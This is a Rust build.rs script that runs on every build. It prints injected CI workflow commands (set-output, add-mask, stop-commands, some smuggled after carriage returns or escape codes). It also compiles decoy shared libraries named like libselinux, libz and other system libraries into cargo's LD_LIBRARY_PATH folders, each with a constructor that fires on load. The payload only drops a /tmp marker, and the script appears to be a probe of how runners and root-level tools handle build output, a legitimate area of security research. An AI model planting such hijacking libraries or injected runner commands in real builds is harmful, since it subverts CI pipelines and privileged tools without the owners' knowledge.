//! Tells what it can reach, prints what a runner would obey, and leaves libraries where a careless tool
//! running as root would load them from: the folders that cargo puts into LD_LIBRARY_PATH.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::{env, fs};

#[path = "src/probe.rs"]
mod probe;

const TRAP: &str = r#"
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void loaded(void) {
    char name[64];
    snprintf(name, sizeof name, "/tmp/loaded-by-%d", (int)geteuid());
    close(open(name, O_CREAT | O_WRONLY, 0666));
}
"#;

const NAMES: &[&str] = &[
    "libcap-ng.so.0",
    "libselinux.so.1",
    "libacl.so.1",
    "libattr.so.1",
    "libpcre2-8.so.0",
    "libz.so.1",
    "libexpat.so.1",
];

const COMMANDS: &[&str] = &[
    "::set-output name=verdict::planted",
    "::error title=planted::planted",
    "::add-mask::e",
    "::stop-commands::planted",
    "text\r::notice::planted",
    "text ##[error]planted",
    "\u{1b}[2J::warning::planted",
];

fn main() {
    for line in probe::found() {
        println!("cargo:warning=PROBE {line}");
    }
    for command in COMMANDS {
        println!("{command}");
        eprintln!("{command}");
        println!("cargo:warning={command}");
    }
    let out = PathBuf::from(env::var("OUT_DIR").expect("cargo's folder for us"));
    let release = out.ancestors().nth(3).expect("the profile's folder");
    set_traps(&out, release);
}

fn set_traps(out: &Path, release: &Path) {
    let source = out.join("trap.c");
    fs::write(&source, TRAP).expect("a file");
    for folder in [release.to_path_buf(), release.join("deps")] {
        for name in NAMES {
            let built = Command::new("gcc")
                .args(["-shared", "-fPIC", "-o"])
                .arg(folder.join(name))
                .arg(&source)
                .status();
            assert!(built.expect("gcc").success());
        }
    }
}
